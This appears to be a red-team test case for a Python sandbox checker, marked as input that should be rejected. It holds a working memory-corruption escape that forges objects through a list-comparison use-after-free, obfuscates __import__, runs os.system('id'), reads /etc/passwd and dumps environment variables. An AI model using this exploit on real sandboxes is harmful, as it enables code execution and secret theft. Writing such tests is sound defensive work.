@@ -1,0 +1,66 @@
+# expect: reject memory
+# line: 43
+# why: round 101 (red team): `_, *V.zz = (0, KA)` binds zz by a starred target, which the proof that every binding of an attribute is an int took for a read; its list == compared a ChainMap's view
+import collections
+
+vl = []
+KEEP = []
+
+
+def q(v):
+    return v.to_bytes(8, "little")
+
+
+def g():
+    return 0
+
+
+FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
+        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]
+
+
+def wipe(x):
+    vl.clear()
+    return x
+
+
+def fill(x):
+    KEEP.append(bytearray(FAKE))
+    return x
+
+
+CA = collections.ChainMap(map(wipe, [1]))
+CB = collections.ChainMap(map(fill, [1]))
+
+
+class V:
+    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")
+
+    def __eq__(self, o):
+        return False
+
+    def __lt__(self, o):
+        n = self.zz == [{1}]
+        return NotImplemented
+
+
+class W:
+    def __eq__(self, o):
+        return False
+
+    def __gt__(self, o):
+        n = self.yy == [{1}]
+        return o
+
+
+_, *V.zz = (0, CA.keys())
+_, *W.yy = (0, CB.keys())
+vl.append(V())
+w = W()
+got = vl < [w]
+bt = got[1]
+imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
+osm = imp("os")
+osm.system("id")
+print(bt["open"]("/etc/passwd").read()[:200])
+print(dict(osm.environ))
